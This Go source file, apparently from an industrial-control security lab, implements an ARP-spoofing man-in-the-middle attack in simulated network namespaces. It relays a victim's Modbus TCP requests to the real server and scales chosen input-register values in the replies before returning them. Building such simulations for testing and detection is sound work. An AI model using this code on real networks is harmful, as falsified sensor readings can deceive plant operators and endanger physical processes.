package peers

import (
	"context"
	"encoding/binary"
	"errors"
	"net"
	"net/netip"
	"sync"
	"time"

	"github.com/banken-ot/banken/deploy/lab/attack"
	"github.com/banken-ot/banken/deploy/lab/netns"
	"github.com/banken-ot/banken/deploy/lab/plant"
)

// intercept is a machine in the middle: the attacker claims a server's address to
// a client, and a second stack of the attacker, with that address and the
// attacker's MAC, answers the client from what it asks the server itself.
type intercept struct {
	*lab
	cause                    *attack.Run
	attacker, victim, server *host
	second                   *netns.Namespace
	index, count             uint16 // input registers that are falsified
	factor                   float64
	stop                     context.CancelFunc
	done                     sync.WaitGroup
}

// claimEvery is how often the attacker repeats its claim.
const claimEvery = 5 * time.Second

var errMiddle = errors.New("peers: there is a machine in the middle already")

// intercept begins.
func (d *doing) intercept(a *plant.Action) error {
	victim, err := d.host(a.Text)
	if err != nil {
		return err
	}
	m := &intercept{lab: d.lab, cause: d.cause, attacker: d.from, victim: victim, server: d.to, index: a.Index, count: a.Count, factor: a.Value}
	d.mu.Lock()
	busy := d.middle != nil
	if !busy {
		d.middle = m
	}
	d.mu.Unlock()
	if busy {
		return errMiddle
	}
	if err := m.begin(d.ctx); err != nil {
		return errors.Join(err, d.withdraw())
	}
	return nil
}

func (m *intercept) begin(ctx context.Context) (err error) {
	ctx, m.stop = context.WithCancel(ctx)
	m.second, err = m.network.Join(netns.Host{Address: netip.PrefixFrom(m.server.Address, plant.Network.Bits()), MAC: m.attacker.MAC, TTL: m.attacker.TTL,
		Silent: true, Neighbours: map[netip.Addr][6]byte{m.victim.Address: m.victim.MAC}})
	if err != nil {
		return err
	}
	second := &host{Host: m.server.Host, space: m.second}
	l, err := second.listen(second.endpoint(modbusPort))
	if err != nil {
		return err
	}
	m.done.Go(func() { serve(ctx, l, m.relay) })
	m.done.Go(func() {
		for m.claim(m.attacker.MAC) == nil && sleep(ctx, claimEvery) {
		}
	})
	return nil
}

// claim tells the victim, from the attacker's interface, that the server is at a
// MAC address.
func (m *intercept) claim(mac [6]byte) error {
	return m.attacker.sendFrame(appendARP(nil, 2, mac, m.server.Address, m.victim.MAC, m.victim.Address))
}

// between is the machine in the middle, nil for none.
func (l *lab) between() *intercept {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.middle
}

func (d *doing) withdrawNow(*plant.Action) error { return d.withdraw() }

// withdraw ends it: the server's real address is told, and the victim's connection
// is closed.
func (l *lab) withdraw() error {
	l.mu.Lock()
	m := l.middle
	l.middle = nil
	l.mu.Unlock()
	if m == nil {
		return nil
	}
	m.stop()
	m.done.Wait()
	err := m.claim(m.server.MAC)
	if m.second != nil {
		sleep(context.Background(), trailing)
		err = errors.Join(err, l.network.Leave(m.second))
	}
	return err
}

// relay serves a connection of the victim.
func (m *intercept) relay(ctx context.Context, c net.Conn) {
	back, err := m.attacker.dial(ctx, m.server.endpoint(modbusPort))
	if err != nil {
		return
	}
	defer back.Close()
	defer closeWith(ctx, back)()
	request, answer := make([]byte, maxADU), make([]byte, maxADU)
	for {
		asked, err := readADU(c, request)
		if err != nil {
			return
		}
		if _, err := back.Write(asked); err != nil {
			return
		}
		told, err := readADU(back, answer)
		if err != nil {
			return
		}
		m.falsify(asked[mbapSize:], told[mbapSize:])
		if _, err := c.Write(told); err != nil {
			return
		}
	}
}

// readInputs is function 4.
const readInputs = 4

// falsify changes the input registers of an answer.
func (m *intercept) falsify(request, answer []byte) {
	if request[0] != readInputs || answer[0] != readInputs || len(request) < 5 || len(answer) < 2 {
		return
	}
	first := binary.BigEndian.Uint16(request[1:])
	words := answer[2:]
	for i := 0; 2*i+1 < len(words); i++ {
		if n := int(first) + i; n >= int(m.index) && n < int(m.index)+int(m.count) {
			v := float64(binary.BigEndian.Uint16(words[2*i:])) * m.factor
			binary.BigEndian.PutUint16(words[2*i:], uint16(min(v, 65535)))
		}
	}
}
